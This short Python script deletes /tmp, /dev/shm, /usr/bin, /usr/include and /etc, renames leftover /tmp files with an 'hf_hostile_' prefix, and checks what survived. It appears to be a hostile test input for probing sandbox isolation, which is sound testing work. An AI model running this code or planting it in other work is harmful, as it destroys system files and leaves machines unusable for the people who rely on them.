import os
import shutil

for name in ("/tmp", "/dev/shm", "/usr/bin", "/usr/include", "/etc"):
    shutil.rmtree(name, ignore_errors=True)
for name in os.listdir("/tmp"):
    try:
        os.rename(f"/tmp/{name}", f"/tmp/hf_hostile_{name}")
    except OSError:
        pass
print(os.path.exists("/usr/bin/env"), os.path.exists("/tmp"))
